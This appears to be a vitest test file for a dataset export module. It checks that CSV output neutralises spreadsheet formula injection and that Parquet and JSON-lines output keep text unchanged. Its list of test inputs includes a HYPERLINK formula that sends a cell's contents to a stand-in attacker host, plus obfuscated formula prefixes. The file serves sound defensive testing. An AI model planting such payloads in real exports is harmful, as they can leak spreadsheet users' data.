import { parse } from "csv-parse/sync";
import { parquetReadObjects } from "hyparquet";
import { expect, it } from "vitest";
import {
  exactText,
  fieldColumns,
  toCsv,
  toJsonLines,
  toParquet,
  toTable,
} from "../../src/datasets/release/tables.js";

const formulas = [
  '=HYPERLINK("http://evil.example?"&A1)',
  "=1+1",
  "+49 30 1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff@SUM(A1)",
  "＝1+1",
  "－1",
  "'=1",
  "''=1",
  "'\t",
  "=a,b\nc",
];
const harmless = ["mug 1", "", "a=b", "'tis", "it's", "2026-03-04", "x;y", 'she said "hi"', "'"];

/** Cells for any separator. */
function cellsOf(csv: string): readonly string[] {
  return (parse(csv, { columns: false }) as string[][]).flat();
}

it("writes no text as a formula, and reads each text back as it was", () => {
  for (const text of [...formulas, ...harmless]) {
    const csv = toCsv(toTable(fieldColumns("STRING", "text"), [{ text }]));
    const [name, cell = ""] = cellsOf(csv.replace(/\n$/, ""));
    expect(name).toBe("text");
    expect(cell, JSON.stringify(text)).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
    expect(exactText(cell), JSON.stringify(text)).toBe(text);
  }
  const plain = toCsv(toTable(fieldColumns("STRING", "text"), [{ text: "mug 1" }]));
  expect(plain).toBe("text\nmug 1\n");
});

it("makes a column's name inert, and leaves numbers and truth values as they are", () => {
  const columns = { "=a": ["STRING", () => null], n: ["DOUBLE", () => -1.5] } as const;
  const csv = toCsv(toTable({ ...columns, b: ["BOOLEAN", () => true] }, [{}]));
  expect(csv).toBe("'=a,n,b\n,-1.5,true\n");
});

it("keeps the exact text in Parquet and in JSON lines", async () => {
  // The Parquet reader drops a byte order mark.
  const rows = formulas.filter((text) => !text.startsWith("\ufeff")).map((text) => ({ text }));
  const table = toTable(fieldColumns("STRING", "text"), rows);
  const parquet = await parquetReadObjects({ file: new Uint8Array(toParquet(table)).buffer });
  expect(parquet).toEqual(rows);
  const lines = toJsonLines(rows).trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
});
